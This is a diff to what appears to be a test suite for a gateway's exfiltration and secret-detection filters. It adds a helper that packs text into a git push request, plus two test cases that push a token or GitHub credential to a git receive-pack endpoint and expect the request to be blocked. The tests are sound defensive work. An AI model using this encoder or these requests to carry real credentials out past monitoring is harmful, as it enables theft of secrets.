@@ -369,6 +369,21 @@ def _grpc_text(text: str) -> str:
     return base64.b64encode(base64.b64encode(body[:11]) + base64.b64encode(body[11:])).decode()
 
 
+def _git_push(text: str) -> str:
+    """A git push (the ref update, then a pack of one blob holding `text`, deflated as
+    git deflates it), base64."""
+    data, size = text.encode(), len(text.encode())
+    head = bytearray([0x30 | size & 0x0F | (0x80 if size > 0x0F else 0)])
+    size >>= 4
+    while size:
+        head.append(size & 0x7F | (0x80 if size > 0x7F else 0))
+        size >>= 7
+    pack = b"PACK\0\0\0\2\0\0\0\1" + bytes(head) + zlib.compress(data)
+    line = b"0" * 40 + b" " + b"1" * 40 + b" refs/heads/main\0report-status\n"
+    body = b"%04x" % (len(line) + 4) + line + b"0000" + pack + hashlib.sha1(pack).digest()
+    return base64.b64encode(body).decode()
+
+
 def _grpc_messages(text: str) -> bytes:
     def frame(message: bytes, compressed: int) -> bytes:
         return bytes([compressed]) + len(message).to_bytes(4, "big") + message
@@ -706,6 +721,12 @@ CASES = [
           "body": "{GRPCTEXT:{TOKEN}}",
           "headers": [["Content-Type", "application/grpc-web-text"],
                       ["grpc-encoding", "gzip"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         check=_no_upstream),
+    Case("F8 token committed to a file in a git push",
+         {"host": "unbound.test", "method": "POST", "target": "/repo.git/git-receive-pack",
+          "body": "{GITPUSH:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/x-git-receive-pack-request"]]},
          ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
          check=_no_upstream),
     Case("a body typed as gRPC-Web's binary and text forms both is refused unread",
@@ -1187,6 +1208,10 @@ DLP = [
          _dlp_post("/dlp/g", "{GRPCGZ:deploy with {GH}}", ["Content-Type", "application/grpc"],
                    ["grpc-encoding", "gzip"]),
          ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
+    Case("DLP: a credential committed to a file in a git push",
+         _dlp_post("/dlp/repo.git/git-receive-pack", "{GITPUSH:GITHUB_TOKEN={GH}\n}",
+                   ["Content-Type", "application/x-git-receive-pack-request"]),
+         ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
     Case("DLP: a credential in a compressed gRPC-Web message in its text form",
          _dlp_post("/dlp/g", "{GRPCTEXT:deploy with {GH}}",
                    ["Content-Type", "application/grpc-web-text+proto"], ["grpc-encoding", "gzip"]),
@@ -1290,6 +1315,8 @@ def _fill(value: Any, subs: dict[str, str]) -> Any:
             return _grpc_gz(_fill(value[8:-1], subs))
         if value.startswith("{GRPCTEXT:") and value.endswith("}"):  # (its text form)
             return _grpc_text(_fill(value[10:-1], subs))
+        if value.startswith("{GITPUSH:") and value.endswith("}"):  # (a deflated blob)
+            return _git_push(_fill(value[9:-1], subs))
         if value.startswith("{GZM:") and value.endswith("}"):  # (gzip, two members)
             return _gz_members(_fill(value[5:-1], subs))
         if value.startswith("{MPGZ:") and value.endswith("}"):  # (a form, a gzip part)
